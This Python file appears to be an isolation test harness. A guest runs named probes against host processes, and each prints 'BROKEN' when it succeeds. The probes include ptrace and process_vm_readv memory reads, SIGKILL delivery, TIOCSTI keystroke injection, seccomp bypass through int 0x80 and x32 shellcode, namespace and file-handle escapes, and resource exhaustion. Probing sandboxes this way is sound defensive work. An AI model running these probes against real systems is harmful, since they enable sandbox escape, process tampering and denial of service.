# SPDX-License-Identifier: MIT
"""Attacks on a PC by calls of the kernel that no shell has: calls.py NAME TARGETS. A program for the router, and for the PC, where it
shows that an attack works where nobody keeps it out.

TARGETS is a JSON object: what of the PC there is to reach (guest.py makes it). Prints "BROKEN" and how, when an attack reaches
something, otherwise what was said to it; and "TRIED" at the end.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import resource
import signal
import socket
import struct
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.shmat.restype = ctypes.c_void_p
X86 = platform.machine() == "x86_64"
NUMBERS = {  # of system calls that are the same on all newer architectures; then of those that are not
    "io_uring_setup": 425, "clone3": 435, "pidfd_open": 434, "pidfd_send_signal": 424, "pidfd_getfd": 438, "process_madvise": 440,
    **({"bpf": 321, "perf_event_open": 298, "keyctl": 250, "add_key": 248, "request_key": 249, "userfaultfd": 323, "ptrace": 101,
        "process_vm_readv": 310, "memfd_create": 319, "tgkill": 234, "rt_sigqueueinfo": 129, "open_by_handle_at": 304, "kcmp": 312}
       if X86 else
       {"bpf": 280, "perf_event_open": 241, "keyctl": 219, "add_key": 217, "request_key": 218, "userfaultfd": 282, "ptrace": 117,
        "process_vm_readv": 270, "memfd_create": 279, "tgkill": 131, "rt_sigqueueinfo": 138, "open_by_handle_at": 265, "kcmp": 272}),
}  # fmt: skip
NEW_USER_SPACE = 0x10000000
TRIED = "TRIED"  # is printed at the end


def call(name, *arguments):
    """Returns what the call returns, and the error's name."""
    ctypes.set_errno(0)
    result = LIBC.syscall(NUMBERS[name], *[ctypes.c_long(argument) if isinstance(argument, int) else argument for argument in arguments])
    return result, errno.errorcode.get(ctypes.get_errno(), "")


def verdict(what, result, refusal):
    print(f"BROKEN {what}: {result}" if result >= 0 else f"{what}: {refusal}")


def io_uring(_targets):
    verdict("io_uring", *call("io_uring_setup", 1, ctypes.create_string_buffer(120)))


def bpf(_targets):
    array, key, value, entries = 2, 4, 4, 1
    verdict("bpf", *call("bpf", 0, ctypes.create_string_buffer(struct.pack("4I", array, key, value, entries) + bytes(112)), 128))


def perf(_targets):
    software, size = 1, 112
    event = ctypes.create_string_buffer(struct.pack("IIQ", software, size, 0) + bytes(96))
    for who in (0, -1):
        verdict("perf_event_open", *call("perf_event_open", event, who, 0 if who < 0 else -1, -1, 0))


def keys(_targets):
    for ring in (-2, -3, -4, -5):  # of the process, the session, the user, the user's session
        verdict("keyctl", *call("keyctl", 0, ring, 1))
        verdict("add_key", *call("add_key", b"user", b"planted", b"x", 1, ring))
    verdict("request_key", *call("request_key", b"user", b"planted", None, 0))


def userfaultfd(_targets):
    user_mode_only = 1
    verdict("userfaultfd", *call("userfaultfd", user_mode_only))


def memory_files(_targets):
    """Memory that no limit of a file system counts."""
    verdict("memfd_create", *call("memfd_create", b"x", 0))


def trace(targets):
    attach, seize = 16, 0x4206
    for pid in targets["processes"]:
        for request in (attach, seize):
            verdict(f"ptrace {pid}", *call("ptrace", request, pid, 0, 0))


def signals(targets):
    """The PC's processes get a signal in every way there is; whether one has ended is seen outside."""
    for pid in targets["processes"]:
        number = signal.SIGKILL
        information = struct.pack("iii", number, 0, -1).ljust(128, b"\0")
        print("kill", LIBC.kill(pid, number), "of its group", LIBC.kill(-pid, number), "tgkill", call("tgkill", pid, pid, number))
        print("rt_sigqueueinfo", call("rt_sigqueueinfo", pid, number, ctypes.create_string_buffer(information)))
        found, said = call("pidfd_open", pid, 0)
        print("pidfd_open", said, call("pidfd_send_signal", found, number, None, 0) if found >= 0 else "")
        ours, theirs = socket.socketpair()
        try:  # whoever owns a socket is told of what comes, with a signal of one's choice
            fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
            fcntl.fcntl(ours, 10, number)  # F_SETSIG
            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            theirs.send(b"x")
        except OSError as error:
            print("F_SETOWN", error)


def memory(targets):
    """The memory of the PC's processes, the keeper's among them."""
    for pid in targets["processes"]:
        for name in ("mem", "maps", "environ", "fd/0", "root/etc/passwd", "cwd/."):
            try:
                os.close(os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
                print(f"BROKEN /proc/{pid}/{name}")
            except OSError as error:
                print(name, error)
        buffer = ctypes.create_string_buffer(8)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
        remote = (ctypes.c_void_p * 2)(targets["address"], 8)
        verdict(f"process_vm_readv {pid}", *call("process_vm_readv", pid, local, 1, remote, 1, 0))
        verdict(f"kcmp {pid}", *call("kcmp", pid, os.getpid(), 0, 0, 0))
        found, _ = call("pidfd_open", pid, 0)
        if found >= 0:
            verdict(f"pidfd_getfd {pid}", *call("pidfd_getfd", found, 0, 0))


def abstract_sockets(targets):
    with socket.socket(socket.AF_UNIX) as client:
        try:
            client.connect("\0" + targets["abstract"])
            print("BROKEN", client.recv(6))
        except OSError as error:
            print(error)


def sockets_by_path(targets):
    """The keeper's own socket, and others of the PC."""
    for path in targets["paths"]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
            for way in (path, "../../../../../.." + path, "/proc/1/root" + path, "/proc/self/root/../../../../.." + path):
                with socket.socket(socket.AF_UNIX, kind) as client:
                    try:
                        client.connect(way)
                        print("BROKEN", way)
                    except OSError as error:
                        print(way, error)


def shared_memory(targets):
    key, number = targets["segment"]
    for found in (LIBC.shmget(key, 0, 0), number):
        address = LIBC.shmat(found, None, 0) if found >= 0 else None
        if address is not None and ctypes.c_long(address).value != -1:
            print("BROKEN", ctypes.string_at(address, 6))
            ctypes.memmove(address, b"broken", 6)
        print("shmctl", LIBC.shmctl(found, 0, None))
    verdict("semget", LIBC.semget(targets["segment"][0], 1, 0o1000 | 0o666), "refused")
    for name in (targets["shared"], targets["planted"]):
        try:
            os.close(os.open(name, os.O_RDWR | os.O_CREAT))
            print("BROKEN", name)
        except OSError as error:
            print(error)


def queues(targets):
    key, number = targets["queue"]
    buffer = ctypes.create_string_buffer(64)
    no_wait = 0o4000
    for found in (LIBC.msgget(key, 0), number):
        if found >= 0 and LIBC.msgrcv(found, buffer, ctypes.c_size_t(32), ctypes.c_long(0), no_wait) >= 0:
            print("BROKEN", buffer.raw)
        LIBC.msgctl(found, 0, None)
    attributes = None
    LIBC.mq_open = getattr(LIBC, "mq_open", None) or ctypes.CDLL("librt.so.1", use_errno=True).mq_open
    verdict("mq_open", LIBC.mq_open(b"/planted", os.O_RDWR | os.O_CREAT, 0o600, attributes), "refused")


def typed_input(_targets):
    """Input that nobody typed, into whatever terminal there is."""
    push = 0x5412
    names = ["/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1", "/proc/self/fd/0"]
    for fd in [0, 1, 2, *(found for name in names if (found := open_quietly(name)) is not None)]:
        ctypes.set_errno(0)
        result = LIBC.ioctl(fd, ctypes.c_ulong(push), b"\n")
        refusal = errno.errorcode.get(ctypes.get_errno(), "")
        # What is no terminal says so only to whom the call itself is not refused.
        print(f"{'BROKEN' if refusal != 'EPERM' else ''} TIOCSTI at {fd}: {result} {refusal}")


def open_quietly(name):
    try:
        return os.open(name, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        return None


def spaces(_targets):
    """A user namespace by the newer call, whose flags no filter sees."""
    arguments = ctypes.create_string_buffer(struct.pack("Q", NEW_USER_SPACE) + bytes(24) + struct.pack("Q", signal.SIGCHLD) + bytes(24))
    result, refusal = call("clone3", arguments, 64)
    if result == 0:
        os._exit(0)
    verdict("clone3", result, refusal)


def older_calls(_targets):
    """Calls of the architecture's older forms, which have other numbers, so that a filter of numbers may miss them."""
    if not X86:
        print("this machine has none")
        return
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, NUMBER; xor ebx, ebx; int 0x80; pop rbx; ret, with getpid and unshare of the 32-bit form.
    for number in (20, 310):
        code.seek(0)
        code.write(b"\x53\xb8" + struct.pack("I", number) + b"\xbb" + struct.pack("I", 0 if number == 20 else NEW_USER_SPACE) + b"\xcd\x80\x5b\xc3")
        result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
        verdict(f"int 0x80 {number}", result, errno.errorcode.get(-result, ""))
    ctypes.set_errno(0)
    verdict("x32", LIBC.syscall(ctypes.c_long(0x40000000 | 272), ctypes.c_long(NEW_USER_SPACE)), errno.errorcode.get(ctypes.get_errno(), ""))


def handles(_targets):
    """Files by their number in the file system, whatever folder they are in."""
    for kind, number in ((1, struct.pack("II", 2, 0)), (0x81, struct.pack("II", 2, 0))):
        handle = ctypes.create_string_buffer(struct.pack("Ii", len(number), kind) + number)
        for name in ("/", "/usr", "/dev/null"):
            with_folder = open_quietly(name) or os.open(name, os.O_RDONLY)
            verdict(f"open_by_handle_at {name}", *call("open_by_handle_at", with_folder, handle, os.O_RDONLY))


def crowd(_targets):
    """All that the board can hear at a time, and whoever comes after; with descriptors that it did not ask for."""
    held = []
    for _ in range(150):
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(0.02)
        try:
            client.connect("/dev/board")
            socket.send_fds(client, [b"keep "], [0] * 16)
        except OSError:
            pass
        held.append(client)
    print(len(held), "connections")


def datagrams(targets):
    """Messages to a socket whose path stands in the message."""
    for way in (lambda end: end.sendto(b"planted", targets["mailbox"]), lambda end: end.sendmsg([b"planted"], [], 0, targets["mailbox"])):
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as end:
            try:
                way(end)
                print("BROKEN", targets["mailbox"])
            except OSError as error:
                print(error)


def watchers(_targets):
    """What the kernel counts for each user, who may have 128 as a rule."""
    held = []
    while (found := LIBC.inotify_init1(0)) >= 0 and len(held) < 100:
        held.append(found)
    print("BROKEN" if len(held) == 100 else "", len(held), "watchers")


def limits(targets):
    """What the PC's processes may use."""
    for pid in targets["processes"][:1]:
        for set_limit in (
            lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (100, 100)),
            lambda: os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))}),
            lambda: os.sched_setscheduler(pid, os.SCHED_BATCH, os.sched_param(0)),
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 5),
        ):
            try:
                set_limit()
                print("BROKEN")
            except OSError as error:
                print(error)


def timers(_targets):
    """The same, of some thousands."""
    count, timer = 0, ctypes.c_void_p()
    while count < 1000 and LIBC.timer_create(1, None, ctypes.byref(timer)) == 0:
        count += 1
    print("BROKEN" if count == 1000 else "", count, "timers")


def leases(_targets):
    """Whoever opens a file on which there is a lease waits for its holder."""
    set_lease = 1024
    for name in ("/usr/bin/curl", "/usr/bin/env"):
        with open(name, "rb") as file:
            for kind in (fcntl.F_RDLCK, fcntl.F_WRLCK):
                try:
                    fcntl.fcntl(file, set_lease, kind)
                    print("BROKEN", name)
                except OSError as error:
                    print(error)


ATTACKS = {function.__name__: function for function in (
    io_uring, bpf, perf, keys, userfaultfd, memory_files, trace, signals, memory, abstract_sockets, sockets_by_path, shared_memory, queues,
    typed_input, spaces, older_calls, handles, crowd, datagrams, watchers, timers, leases, limits,
)}  # fmt: skip

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](json.loads(sys.argv[2]))
    print(TRIED)
